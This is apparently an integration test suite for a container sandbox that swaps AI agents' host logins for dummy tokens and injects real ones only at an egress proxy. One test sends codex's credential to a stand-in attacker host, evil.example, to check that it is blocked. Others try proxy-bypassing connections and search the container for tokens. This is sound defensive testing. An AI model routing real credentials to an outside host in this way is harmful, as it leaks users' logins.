// Credential forwarding end to end, with real parts: a Docker bottle running the real
// codex CLI (npm @openai/codex, in bottle-test-codex), egress (real bottle-egress in its
// sidecar), a stand-in parent proxy in pipelock's place and a fake HTTPS upstream
// posing as chatgpt.com (fake_net.py). The parent proxy listens on the host side of
// Docker's default bridge, the only address the egress container can reach it on.
// Token values never appear in assertions' output: checks compare booleans.
// Throughout, a proc_scan::Scanner watches every process's argv (and the environment
// of every host process the test starts) for the real tokens.
#include <catch2/catch.hpp>

#include <boost/json.hpp>
#include <ctime>

#include "bottle/core/base64url.hpp"
#include "cli_harness.hpp"
#include "docker_bridge.hpp"
#include "net_harness.hpp"
#include "podman_harness.hpp"
#include "proc_scan.hpp"

using namespace net_harness;

namespace {

constexpr const char* codex_image = "bottle-test-codex:latest";

std::string fake_jwt(const boost::json::object& payload) {
  return bottle::base64url_encode(R"({"alg":"RS256","typ":"JWT"})") + "." +
         bottle::base64url_encode(boost::json::serialize(payload)) + "." + bottle::base64url_encode("signature");
}

struct HostLogin {
  std::string access_token;
  std::string refresh_token = "real-refresh-token-for-the-test";
};

// A host ~/.claude/.credentials.json as `claude /login` leaves it (a subscription
// login, valid for a day: create has nothing to refresh).
HostLogin write_host_claude_login(const fs::path& claude_dir) {
  fs::create_directories(claude_dir);
  const std::int64_t now = std::time(nullptr);
  const std::string stamp = std::to_string(now);
  const HostLogin login{"sk-ant-oat01-realE2eAccess" + stamp + "xY_z-0",
                        "sk-ant-ort01-realE2eRefresh" + stamp + "qR-9"};
  const boost::json::object oauth{{"accessToken", login.access_token},
                                  {"refreshToken", login.refresh_token},
                                  {"expiresAt", (now + 86400) * 1000},
                                  {"scopes", boost::json::array{"user:inference", "user:profile"}},
                                  {"subscriptionType", "max"}};
  write_file(claude_dir / ".credentials.json", boost::json::serialize(boost::json::object{{"claudeAiOauth", oauth}}));
  fs::permissions(claude_dir / ".credentials.json", fs::perms::owner_read | fs::perms::owner_write);
  return login;
}

// A host ~/.codex/auth.json as `codex login` leaves it.
HostLogin write_host_codex_login(const fs::path& codex_home) {
  fs::create_directories(codex_home);
  const std::int64_t now = std::time(nullptr);
  const boost::json::object auth{
      {"chatgpt_account_id", "acct-e2e"}, {"chatgpt_plan_type", "plus"}, {"chatgpt_user_id", "user-e2e"}};
  HostLogin login;
  login.access_token = fake_jwt({{"exp", now + 3 * 86400},
                                 {"iat", now},
                                 {"https://api.openai.com/auth", auth},
                                 {"jti", "real-" + std::to_string(now)}});
  const std::string id_token = fake_jwt(
      {{"exp", now + 3600}, {"iat", now}, {"email", "dev@example.com"}, {"https://api.openai.com/auth", auth}});
  const boost::json::object file{{"auth_mode", "chatgpt"},
                                 {"OPENAI_API_KEY", nullptr},
                                 {"tokens",
                                  {{"id_token", id_token},
                                   {"access_token", login.access_token},
                                   {"refresh_token", login.refresh_token},
                                   {"account_id", "acct-e2e"}}},
                                 {"last_refresh", "2026-11-26T10:00:00Z"}};
  write_file(codex_home / "auth.json", boost::json::serialize(file));
  fs::permissions(codex_home / "auth.json", fs::perms::owner_read | fs::perms::owner_write);
  return login;
}

std::vector<boost::json::object> upstream_requests(const fs::path& log) {
  std::vector<boost::json::object> records;
  std::istringstream lines(read_file(log));
  for (std::string line; std::getline(lines, line);) records.push_back(boost::json::parse(line).as_object());
  return records;
}

std::string header(const boost::json::object& record, const std::string& lower_name) {
  for (const auto& [key, value] : record.at("headers").as_object()) {
    std::string k(key);
    std::transform(k.begin(), k.end(), k.begin(), [](unsigned char c) { return std::tolower(c); });
    if (k == lower_name) return std::string(value.as_string());
  }
  return {};
}

// A shell script that reads a token on stdin, prints the files under `dirs` that hold
// it, then 1 if the environment holds it, else 0. The token stays in the shell's
// memory: grep reads it as a pattern file and the environment is matched by a
// builtin, so it is in no argv, on the host or in the bottle.
std::string token_search_script(const std::string& dirs) {
  return "read -r t; printf '%s\\n' \"$t\" | grep -rlF -f - " + dirs +
         " 2>/dev/null; case \"$(env)\" in *\"$t\"*) echo 1 ;; *) echo 0 ;; esac";
}

struct BottleCleanup {
  IntegrationHome& home;
  std::string name;
  ~BottleCleanup() { home.cli({"rm", "--force", name}); }
};

std::vector<proc_scan::Secret> real_tokens(const HostLogin& login) {
  return {{"host access token", login.access_token}, {"host refresh token", login.refresh_token}};
}

// The bottle's egress audit log as JSON lines (`bottle-cli logs --json`), once a
// record matching `needle` is in it (egress writes a record when it is done with the
// flow); checked against the scanner's real tokens and the bottle's dummy, by label.
std::string audit_log_with(IntegrationHome& home, const std::string& name, const std::string& needle,
                           const HostLogin& login, const std::string& dummy) {
  const auto logs = [&] { return home.cli({"logs", "--json", name}); };
  CHECK(wait_until([&] { return logs().out.find(needle) != std::string::npos; }, 20s));
  const auto r = logs();
  CHECK(r.ok());
  CHECK(r.err.empty());  // no corrupt line
  for (const auto& secret : real_tokens(login)) {
    INFO("audit log holds the " << secret.label);
    CHECK(r.out.find(secret.value) == std::string::npos);
  }
  CHECK(r.out.find(dummy) == std::string::npos);
  CHECK(r.out.find("Bearer") == std::string::npos);
  return r.out;
}

// fake_net.py serving the certificates make_certs() wrote in `d`, its parent proxy
// listening on `bind`; returns once it wrote its ports.
std::unique_ptr<Daemon> start_fake_net(const fs::path& d, const std::string& bind) {
  ::setenv("FAKE_NET_BIND", bind.c_str(), 1);
  auto net = std::make_unique<Daemon>(
      std::vector<std::string>{"python3", fake_net_script(), "serve", (d / "server.pem").string(),
                               (d / "server.key").string(), (d / "ports.json").string(), (d / "upstream.log").string(),
                               (d / "parent.log").string()},
      d / "fake_net.out");
  ::unsetenv("FAKE_NET_BIND");
  REQUIRE(wait_until([&] { return fs::exists(d / "ports.json"); }, 20s));
  return net;
}

std::int64_t parent_port(const fs::path& d) {
  return boost::json::parse(read_file(d / "ports.json")).as_object().at("parent").as_int64();
}

// The agent's requests reached the fake upstream through the parent proxy (a tunnel
// to `host`), carrying the real token and never the dummy.
void check_upstream_saw_real_token(const fs::path& d, const HostLogin& login, const std::string& dummy,
                                   const std::string& host = "chatgpt.com") {
  const auto requests = upstream_requests(d / "upstream.log");
  REQUIRE_FALSE(requests.empty());
  int with_real = 0, with_dummy = 0;
  for (const auto& rec : requests) {
    const std::string auth = header(rec, "authorization");
    with_real += auth == "Bearer " + login.access_token ? 1 : 0;
    with_dummy += auth.find(dummy) != std::string::npos ? 1 : 0;
  }
  CHECK(with_real > 0);
  CHECK(with_dummy == 0);
  CHECK_THAT(read_file(d / "parent.log"), Catch::Contains("CONNECT " + host + ":443"));
}

// The scanner saw no real token, and it did look: many passes, with bottle-cli and
// the engine CLI it runs caught alive at least once.
void check_no_token_in_any_argv(proc_scan::Scanner& scanner, const std::string& engine = "docker") {
  scanner.stop();
  const auto names = scanner.descendant_names();
  INFO("passes over /proc: " << scanner.sweeps() << ", command lines read: " << scanner.cmdlines_read()
                             << ", environments read: " << scanner.environs_read());
  WARN("argv scan: " << scanner.sweeps() << " passes over /proc, " << scanner.cmdlines_read() << " command lines and "
                     << scanner.environs_read() << " environments read, " << names.size()
                     << " distinct names among this test's processes, " << scanner.hits().size() << " hits");
  INFO("processes found holding a real token:\n" << scanner.report());
  CHECK(scanner.hits().empty());
  CHECK(scanner.sweeps() >= 100);
  CHECK(names.count("bottle-cli") == 1);
  CHECK(names.count(engine) == 1);
  CHECK(scanner.environs_read() > 0);
}

}  // namespace

TEST_CASE("proc scan: a secret in a child's argv or environment is found and reported by label only",
          "[proc_scan][integration]") {
  const std::string in_argv = "argv-secret-" + std::to_string(std::time(nullptr)) + "-x9";
  const std::string in_env = "env-secret-" + std::to_string(std::time(nullptr)) + "-y7";
  proc_scan::Scanner scanner({{"argv secret", in_argv}, {"env secret", in_env}, {"absent", "never-anywhere-q1"}});
  bottle::SystemRunner runner;
  // sh keeps the secret in its argv ($0) while it sleeps; sleep gets it only in its
  // environment (env's own argv holds it for an instant, which may be seen too).
  // Two commands: with one, dash would exec sleep in its own place and $0 would go.
  runner.run({.argv = {"sh", "-c", "sleep 0.5; true", in_argv}});
  runner.run({.argv = {"env", "SCAN_ME=" + in_env, "sleep", "0.5"}});
  scanner.stop();
  const auto hits = scanner.hits();
  bool argv_hit = false, env_hit = false;
  for (const auto& h : hits) {
    argv_hit = argv_hit || (h.label == "argv secret" && h.where == "cmdline" && h.comm == "sh");
    env_hit = env_hit || (h.label == "env secret" && h.where == "environ" && h.comm == "sleep");
    CHECK(h.label != "absent");
  }
  CHECK(argv_hit);
  CHECK(env_hit);
  const std::string report = scanner.report();
  CHECK_THAT(report, Catch::Contains("argv secret in its cmdline") && Catch::Contains("(sh)"));
  CHECK(report.find(in_argv) == std::string::npos);
  CHECK(report.find(in_env) == std::string::npos);
  CHECK(scanner.sweeps() > 10);
  CHECK(scanner.descendant_names().count("sleep") == 1);
}

TEST_CASE("forwarding: real codex in a Docker bottle is logged in with dummies and egress injects the real token",
          "[forwarding][integration]") {
  IntegrationHome home;
  const fs::path& d = home.path();
  make_certs(d);
  const HostLogin login = write_host_codex_login(d / "codex-home");
  proc_scan::Scanner scanner(real_tokens(login));

  const std::string gateway = docker_bridge_gateway();
  REQUIRE_FALSE(gateway.empty());
  const auto net = start_fake_net(d, gateway);
  const std::string parent = gateway + ":" + std::to_string(parent_port(d));

  home.env()["CODEX_HOME"] = (d / "codex-home").string();
  home.env()["BOTTLE_EGRESS_UPSTREAM"] = "http://" + parent;
  home.env()["BOTTLE_EGRESS_UPSTREAM_CA"] = (d / "ca.pem").string();
  const std::string name = unique_bottle_name("it-fwd");
  BottleCleanup cleanup{home, name};
  auto r =
      home.cli({"create", "--name", name, "--agent", "codex", "--image", codex_image, "--forward-host-credentials"});
  INFO(r.err);
  REQUIRE(r.ok());
  CHECK_THAT(home.cli({"ls", "--json"}).out, Catch::Contains("\"egress\":\"on\""));

  // The bottle holds a dummy that carries the real token's exp, never the token.
  r = home.cli({"exec", name, "--", "cat", ".codex/auth.json"});
  REQUIRE(r.ok());
  const auto bottle_auth = boost::json::parse(r.out).as_object();
  const std::string dummy(bottle_auth.at("tokens").at("access_token").as_string());
  CHECK(dummy != login.access_token);
  CHECK(r.out.find(login.access_token) == std::string::npos);
  CHECK(r.out.find(login.refresh_token) == std::string::npos);

  SECTION("codex's own requests arrive upstream with the real token") {
    r = home.cli({"exec", name, "--", "timeout", "60", "codex", "exec", "--skip-git-repo-check", "say hi"});
    check_upstream_saw_real_token(d, login, dummy);
    // The audit log has codex's requests, the credential injected, and no token.
    const std::string audit = audit_log_with(home, name, R"("action":"injected")", login, dummy);
    CHECK(contains(audit, R"("host":"chatgpt.com")"));
    CHECK(contains(audit, R"("reason":"credential swapped","route":"codex-chatgpt")"));
  }

  SECTION("the same dummy sent by codex to an unbound host is blocked and never reaches upstream") {
    home.cli({"exec", name, "--", "timeout", "40", "codex", "exec", "--skip-git-repo-check", "-c",
              "chatgpt_base_url=\"https://evil.example/backend-api/\"", "say hi"});
    // Requests without a credential may pass; none carrying it (dummy or real) does.
    for (const auto& rec : upstream_requests(d / "upstream.log")) {
      if (header(rec, "host") != "evil.example") continue;
      const std::string seen = boost::json::serialize(rec);
      CHECK(seen.find(dummy) == std::string::npos);
      CHECK(seen.find(login.access_token) == std::string::npos);
    }
    bottle::SystemRunner runner;
    const std::string egress_log = runner.run({.argv = {"docker", "logs", "bottle-" + name + "-egress"}}).err;
    CHECK(logged(egress_log, {{"event", "blocked"}, {"host", "evil.example"}, {"route", "codex-chatgpt"}}));
    CHECK(egress_log.find(login.access_token) == std::string::npos);
    CHECK(egress_log.find(dummy) == std::string::npos);
    const std::string audit = audit_log_with(home, name, R"("host":"evil.example")", login, dummy);
    CHECK(contains(audit, R"("action":"blocked","bottle":")" + name + "\""));
    CHECK(contains(audit, R"("host":"evil.example")"));
    CHECK(contains(audit, R"("reason":"dummy sent to unbound host","route":"codex-chatgpt","status":403)"));
  }

  // Two read-only looks share one bottle (each section is a create of its own): the
  // search reads files and the environment, the connection attempt writes nothing.
  SECTION(
      "no real token anywhere in the bottle's filesystem or environment, and a direct connection from the "
      "bottle to anything but egress fails") {
    const std::string search = token_search_script("/bin /etc /home /root /tmp /usr /var /run");
    r = home.cli({"exec", "--user", "root", name, "--", "sh", "-c", search}, login.access_token + "\n");
    CHECK(r.out == "0\n");
    r = home.cli({"exec", "--user", "root", name, "--", "sh", "-c", search}, login.refresh_token + "\n");
    CHECK(r.out == "0\n");
    r = home.cli({"exec", name, "--", "sh", "-c",
                  "env -u https_proxy -u HTTPS_PROXY -u http_proxy -u HTTP_PROXY timeout 5 wget -q -O- http://" +
                      parent + "/ && echo REACHED; true"});
    CHECK_THAT(r.out, !Catch::Contains("REACHED"));
  }

  check_no_token_in_any_argv(scanner);
}

TEST_CASE("forwarding: real claude in a Docker bottle answers through egress, which sends the real token",
          "[forwarding][claude][integration]") {
  IntegrationHome home;
  const fs::path& d = home.path();
  make_certs(d);
  const HostLogin login = write_host_claude_login(d / "claude-home");
  proc_scan::Scanner scanner(real_tokens(login));

  const std::string gateway = docker_bridge_gateway();
  REQUIRE_FALSE(gateway.empty());
  const auto net = start_fake_net(d, gateway);
  const std::string parent = gateway + ":" + std::to_string(parent_port(d));

  home.env()["CLAUDE_CONFIG_DIR"] = (d / "claude-home").string();
  home.env()["BOTTLE_EGRESS_UPSTREAM"] = "http://" + parent;
  home.env()["BOTTLE_EGRESS_UPSTREAM_CA"] = (d / "ca.pem").string();
  const std::string name = unique_bottle_name("it-cfwd");
  BottleCleanup cleanup{home, name};
  auto r = home.cli({"create", "--name", name, "--agent", "claude", "--image", "bottle-test-claude:latest",
                     "--forward-host-credentials"});
  INFO(r.err);
  REQUIRE(r.ok());

  // The bottle's login is a dummy of the real one's shape, never the real one.
  r = home.cli({"exec", name, "--", "cat", ".claude/.credentials.json"});
  REQUIRE(r.ok());
  const std::string dummy(boost::json::parse(r.out).at("claudeAiOauth").at("accessToken").as_string());
  CHECK(dummy.rfind("sk-ant-oat01-", 0) == 0);
  CHECK(dummy != login.access_token);
  CHECK(r.out.find(login.access_token) == std::string::npos);
  CHECK(r.out.find(login.refresh_token) == std::string::npos);

  // The real claude CLI, logged in with the dummy, gets the fake API's streamed answer:
  // the whole path (CA trust, proxy variables, swap, parent proxy) works for it.
  r = home.cli({"exec", name, "--", "timeout", "90", "claude", "-p", "say hi"});
  INFO(r.err);
  CHECK(r.ok());
  CHECK_THAT(r.out, Catch::Contains("hello from the fake Anthropic API"));

  check_upstream_saw_real_token(d, login, dummy, "api.anthropic.com");
  int messages_with_real = 0;
  for (const auto& rec : upstream_requests(d / "upstream.log")) {
    if (rec.at("path").as_string().find("/v1/messages") != 0) continue;
    messages_with_real += header(rec, "authorization") == "Bearer " + login.access_token ? 1 : 0;
  }
  CHECK(messages_with_real > 0);
  const std::string audit = audit_log_with(home, name, R"("action":"injected")", login, dummy);
  CHECK(contains(audit, R"("host":"api.anthropic.com")"));
  CHECK(contains(audit, R"("reason":"credential swapped","route":"claude-oauth")"));

  // Nothing in the bottle holds the real tokens, and the host's login is unchanged.
  const std::string search = token_search_script("/bin /etc /home /root /tmp /usr /var /run");
  for (const std::string& token : {login.access_token, login.refresh_token}) {
    r = home.cli({"exec", "--user", "root", name, "--", "sh", "-c", search}, token + "\n");
    CHECK(r.out == "0\n");
  }
  CHECK_THAT(read_file(d / "claude-home" / ".credentials.json"), Catch::Contains(login.refresh_token));

  check_no_token_in_any_argv(scanner);
}

TEST_CASE("forwarding: real codex in a Podman bottle reaches upstream only through egress, with the real token",
          "[forwarding][podman][integration]") {
  IntegrationHome home;
  use_podman(home, {codex_image, "bottle-egress:latest"});
  const fs::path& d = home.path();
  make_certs(d);
  const HostLogin login = write_host_codex_login(d / "codex-home");
  proc_scan::Scanner scanner(real_tokens(login));

  // The parent proxy listens on every host address: Podman's bridge (and so its
  // gateway address) may exist only once the bottle's egress joins it.
  const auto net = start_fake_net(d, "0.0.0.0");
  const std::string parent = podman_gateway(home) + ":" + std::to_string(parent_port(d));

  home.env()["CODEX_HOME"] = (d / "codex-home").string();
  home.env()["BOTTLE_EGRESS_UPSTREAM"] = "http://" + parent;
  home.env()["BOTTLE_EGRESS_UPSTREAM_CA"] = (d / "ca.pem").string();
  const std::string name = unique_bottle_name("it-pfwd");
  BottleCleanup cleanup{home, name};
  auto r = home.cli({"create", "--backend", "podman", "--name", name, "--agent", "codex", "--image", codex_image,
                     "--forward-host-credentials"});
  INFO(r.err);
  REQUIRE(r.ok());
  CHECK_THAT(home.cli({"ls", "--json"}).out, Catch::Contains("\"egress\":\"on\""));

  r = home.cli({"exec", name, "--", "cat", ".codex/auth.json"});
  REQUIRE(r.ok());
  const std::string dummy(boost::json::parse(r.out).at("tokens").at("access_token").as_string());
  CHECK(dummy != login.access_token);
  CHECK(r.out.find(login.access_token) == std::string::npos);
  CHECK(r.out.find(login.refresh_token) == std::string::npos);

  // The bottle's only interface besides loopback is on its own network, with no
  // route out: a direct connection to the parent proxy fails.
  r = home.cli({"exec", name, "--", "sh", "-c", "ip route; ls /sys/class/net | sort | tr '\\n' ' '"});
  CHECK_THAT(r.out, !Catch::Contains("default"));
  CHECK_THAT(r.out, Catch::EndsWith("eth0 lo "));
  r = home.cli({"exec", name, "--", "sh", "-c",
                "env -u https_proxy -u HTTPS_PROXY -u http_proxy -u HTTP_PROXY timeout 5 wget -q -O- http://" + parent +
                    "/ && echo REACHED; true"});
  CHECK_THAT(r.out, !Catch::Contains("REACHED"));

  r = home.cli({"exec", name, "--", "timeout", "60", "codex", "exec", "--skip-git-repo-check", "say hi"});
  check_upstream_saw_real_token(d, login, dummy);
  const std::string audit = audit_log_with(home, name, R"("action":"injected")", login, dummy);
  CHECK(contains(audit, R"("reason":"credential swapped","route":"codex-chatgpt")"));

  // No real token in the bottle's files or environment (read as the pod's user:
  // Podman bottles have no root).
  const std::string search = token_search_script("/bin /etc /home /tmp /usr /var /run");
  for (const std::string& token : {login.access_token, login.refresh_token}) {
    r = home.cli({"exec", name, "--", "sh", "-c", search}, token + "\n");
    CHECK(r.out == "0\n");
  }

  r = home.cli({"rm", "--force", name});
  INFO(r.err);
  CHECK(r.ok());
  const auto left =
      home.run({"sh", "-c", "podman ps -a --format '{{.Names}}'; podman network ls --format '{{.Name}}'"});
  CHECK(left.out.find("bottle-" + name + "-") == std::string::npos);
  check_no_token_in_any_argv(scanner, "podman");
}

namespace {

// make_certs() plus auth.openai.com on the fake upstream's certificate.
void make_certs_with_token_host(const fs::path& d) {
  make_certs(d);
  write_file(d / "ext.cnf",
             "basicConstraints=CA:FALSE\nextendedKeyUsage=serverAuth\n"
             "subjectAltName=DNS:chatgpt.com,DNS:auth.openai.com,DNS:evil.example\n");
  const auto r = run({"openssl", "x509", "-req", "-in", (d / "server.csr").string(), "-CA", (d / "ca.pem").string(),
                      "-CAkey", (d / "ca.key").string(), "-CAcreateserial", "-out", (d / "server.pem").string(),
                      "-days", "2", "-extfile", (d / "ext.cnf").string()});
  INFO(r.err);
  REQUIRE(r.ok());
}

}  // namespace

TEST_CASE("forwarding: codex in a bottle refreshes through the egress broker and the host login stays valid",
          "[forwarding][integration][broker]") {
  IntegrationHome home;
  const fs::path& d = home.path();
  make_certs_with_token_host(d);
  // The host token expires in 2 minutes: inside Codex's 5-minute refresh window, and
  // inside the broker's, so the broker refreshes the host login once.
  HostLogin login = write_host_codex_login(d / "codex-home");
  const auto host_file = d / "codex-home" / "auth.json";
  {
    auto doc = boost::json::parse(read_file(host_file)).as_object();
    const std::int64_t now = std::time(nullptr);
    const boost::json::object auth{
        {"chatgpt_account_id", "acct-e2e"}, {"chatgpt_plan_type", "plus"}, {"chatgpt_user_id", "user-e2e"}};
    login.access_token = fake_jwt({{"exp", now + 120}, {"iat", now}, {"https://api.openai.com/auth", auth}});
    doc["tokens"].as_object()["access_token"] = login.access_token;
    write_file(host_file, boost::json::serialize(doc));
  }
  proc_scan::Scanner scanner(real_tokens(login));
  // create would refresh the host login before minting (C4 rule 4): the token endpoint
  // fails for now during create, so the bottle starts with the expiring token and
  // the refresh under test is the broker's.
  const auto token_endpoint = [&](const std::string& mode) {
    replace_file(
        d / "tokens.json",
        boost::json::serialize(boost::json::object{
            {"mode", mode}, {"refresh_token", login.refresh_token}, {"count", 0}, {"account_id", "acct-e2e"}}));
  };
  token_endpoint("error");

  const std::string gateway = docker_bridge_gateway();
  REQUIRE_FALSE(gateway.empty());
  ::setenv("FAKE_NET_TOKENS", (d / "tokens.json").c_str(), 1);
  const auto net = start_fake_net(d, gateway);
  ::unsetenv("FAKE_NET_TOKENS");

  home.env()["CODEX_HOME"] = (d / "codex-home").string();
  home.env()["BOTTLE_EGRESS_UPSTREAM"] = "http://" + gateway + ":" + std::to_string(parent_port(d));
  home.env()["BOTTLE_EGRESS_UPSTREAM_CA"] = (d / "ca.pem").string();
  const std::string name = unique_bottle_name("it-brk");
  BottleCleanup cleanup{home, name};
  auto r =
      home.cli({"create", "--name", name, "--agent", "codex", "--image", codex_image, "--forward-host-credentials"});
  INFO(r.err);
  REQUIRE(r.ok());
  CHECK(contains(r.err, "warning: could not refresh the host's codex login"));
  token_endpoint("rotate");
  r = home.cli({"exec", name, "--", "cat", ".codex/auth.json"});
  REQUIRE(r.ok());
  const std::string first_dummy(boost::json::parse(r.out).at("tokens").at("access_token").as_string());

  home.cli({"exec", name, "--", "timeout", "60", "codex", "exec", "--skip-git-repo-check", "say hi"});

  // One real refresh happened, with the real refresh token, and the rotated login is
  // in the host's own file (mode kept).
  const auto tokens_state = boost::json::parse(read_file(d / "tokens.json")).as_object();
  CHECK(tokens_state.at("count").as_int64() == 1);
  const auto host_doc = boost::json::parse(read_file(host_file)).as_object();
  const auto& host_tokens = host_doc.at("tokens").as_object();
  const std::string rotated_at(host_tokens.at("access_token").as_string());
  CHECK(host_tokens.at("refresh_token") == "rt-1");
  CHECK(host_tokens.at("account_id") == "acct-e2e");
  CHECK(rotated_at != login.access_token);
  CHECK((fs::status(host_file).permissions() & fs::perms::all) == (fs::perms::owner_read | fs::perms::owner_write));

  // The bottle stored fresh dummies (never a real token) and kept working: its later
  // requests reached chatgpt.com with the rotated real token.
  r = home.cli({"exec", name, "--", "cat", ".codex/auth.json"});
  REQUIRE(r.ok());
  const auto bottle_tokens = boost::json::parse(r.out).at("tokens").as_object();
  CHECK(std::string(bottle_tokens.at("access_token").as_string()) != first_dummy);
  CHECK(r.out.find(rotated_at) == std::string::npos);
  CHECK(r.out.find("rt-1") == std::string::npos);
  int with_rotated = 0, refreshes_upstream = 0;
  for (const auto& rec : upstream_requests(d / "upstream.log")) {
    with_rotated += header(rec, "authorization") == "Bearer " + rotated_at ? 1 : 0;
    refreshes_upstream += rec.at("path") == "/oauth/token" ? 1 : 0;
  }
  CHECK(with_rotated > 0);
  CHECK(refreshes_upstream == 2);  // create's, failed for now, and the broker's
  // The audit log shows the refresh egress answered itself; no token, old or rotated.
  const std::string audit = audit_log_with(home, name, R"("action":"broker")", login, first_dummy);
  CHECK(contains(audit, R"("host":"auth.openai.com","method":"POST","path":"/oauth/token")"));
  CHECK(audit.find(rotated_at) == std::string::npos);
  CHECK(audit.find("rt-1") == std::string::npos);

  // codex logout in the bottle revokes nothing upstream; the host login is untouched.
  const auto before_logout = read_file(host_file);
  home.cli({"exec", name, "--", "timeout", "30", "codex", "logout"});
  CHECK(read_file(host_file) == before_logout);
  for (const auto& rec : upstream_requests(d / "upstream.log")) CHECK(rec.at("path") != "/oauth/revoke");

  check_no_token_in_any_argv(scanner);
}
